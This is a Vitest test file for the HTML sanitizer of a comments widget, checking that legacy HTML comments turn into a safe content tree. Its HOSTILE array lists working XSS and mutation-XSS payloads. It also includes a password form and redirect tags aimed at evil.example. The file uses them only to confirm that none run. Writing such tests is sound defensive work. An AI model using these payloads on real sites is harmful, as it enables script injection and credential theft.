import { type ContentTree, newCommentId, parseContent } from '@afterword/storage'
import { defineAdapter } from '@afterword/storage'
import { afterEach, describe, expect, it } from 'vitest'
import { AfterwordComments } from '../src/define.ts'
import { sanitize } from '../src/text/sanitize.ts'

/** An old store that has nothing but HTML. */
function legacyAdapter(html: string) {
  const id = newCommentId()
  return defineAdapter({
    supports: {
      orders: ['oldest'],
      create: false,
      replies: false,
      edit: false,
      remove: false,
      react: false,
      report: false,
      locate: false,
      counts: false,
      subscribe: false,
      passages: false,
      reattach: false,
      moderate: false,
    },
    open: async (page) => ({
      thread: { page, seq: 1, count: 1, closed: false },
      comments: [
        {
          id,
          parent: null,
          root: id,
          depth: 0,
          seq: 1,
          version: 1,
          status: 'published',
          createdAt: 1,
          editedAt: null,
          author: { id: 'old', name: 'Old Reader', guest: true },
          body: { html },
          passage: null,
          reactions: {},
        },
      ],
      branches: [],
      previous: null,
      next: null,
      reactions: [],
      editWindow: null,
      passages: [],
    }),
  })
}

afterEach(() => document.body.replaceChildren())

/** What runs, asks or hides when it is read as HTML. */
const HOSTILE: readonly string[] = [
  '<img src=x onerror="top.hacked=1">',
  '<svg onload="top.hacked=1"><a xlink:href="javascript:top.hacked=1"><text>x</text></a></svg>',
  '<a href="javascript:top.hacked=1">x</a><a href=" &#1;javascript:top.hacked=1">y</a>',
  '<iframe srcdoc="<script>top.hacked=1</script>"></iframe><object data="x"></object><embed src="x">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=top.hacked=1>">',
  '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
  '<p style="position:fixed;inset:0" id="comments" class="x">covered</p>',
  '<template><script>top.hacked=1</script></template><noscript><p title="</noscript><img src=x onerror=top.hacked=1>">',
  '<link rel=stylesheet href="//evil.example/x.css"><meta http-equiv=refresh content="0;url=//evil.example"><base href="//evil.example">',
  '<p>'.repeat(3_000),
]

describe('HTML of a legacy store', () => {
  it('becomes a content tree of the few elements', () => {
    expect(
      sanitize(
        '<h2>Title</h2><p>One <b>bold</b> <a href="https://example.org/a">link</a><br>two</p><ul><li>x</ul><pre>a\n b</pre>',
      ),
    ).toEqual([
      { type: 'h', children: ['Title'] },
      {
        type: 'p',
        children: [
          'One ',
          { type: 'strong', children: ['bold'] },
          ' ',
          { type: 'a', href: 'https://example.org/a', children: ['link'] },
          { type: 'br' },
          'two',
        ],
      },
      { type: 'ul', children: [{ type: 'li', children: [{ type: 'p', children: ['x'] }] }] },
      { type: 'pre', text: 'a\n b' },
    ])
  })

  it.each(HOSTILE)('neither runs nor asks nor hides: %s', async (html) => {
    const asked = performance.getEntriesByType('resource').length
    const tree = sanitize(html)
    expect(parseContent(JSON.parse(JSON.stringify(tree)), 'content')).toEqual(tree)
    expect(JSON.stringify(tree)).not.toMatch(/javascript:|evil\.example\/x|hacked/)
    await new Promise(requestAnimationFrame)
    expect('hacked' in (window.top ?? window)).toBe(false)
    const foreign = performance.getEntriesByType('resource').slice(asked)
    expect(foreign.filter(({ name }) => name.includes('evil.example'))).toEqual([])
  })

  it('is shown in a thread', async () => {
    const element = new AfterwordComments()
    element.page = '/legacy'
    element.adapter = legacyAdapter('<p>From the <em>old</em> days</p><script>top.hacked=1</script>')
    document.body.append(element)
    await expect.poll(() => element.shadowRoot?.querySelector('.body em')?.textContent).toBe('old')
    expect(element.shadowRoot?.querySelector('.body')?.textContent).toBe('From the old days')
    expect(element.shadowRoot?.querySelector('.body script')).toBeNull()
  })

  it('is shown under a policy that forbids every HTML sink', async () => {
    const told = new Promise<unknown>((resolve) =>
      addEventListener('message', (event: MessageEvent<{ tree?: unknown }>) => {
        if (event.data.tree !== undefined) resolve(event.data.tree)
      }),
    )
    const frame = document.createElement('iframe')
    frame.srcdoc = `<meta http-equiv="Content-Security-Policy" content="require-trusted-types-for 'script'; trusted-types 'none'">
      <script type="module">
        import { sanitize } from '${new URL('../src/text/sanitize.ts', import.meta.url).pathname}'
        let tree
        try { tree = sanitize('<p>Kept <b>bold</b><img src=x onerror=parent.hacked=1></p>') } catch (error) { tree = String(error) }
        parent.postMessage({ tree }, '*')
      </script>`
    document.body.append(frame)
    const tree = (await told) as ContentTree
    expect(tree).toEqual([{ type: 'p', children: ['Kept ', { type: 'strong', children: ['bold'] }] }])
    expect('hacked' in window).toBe(false)
  })
})
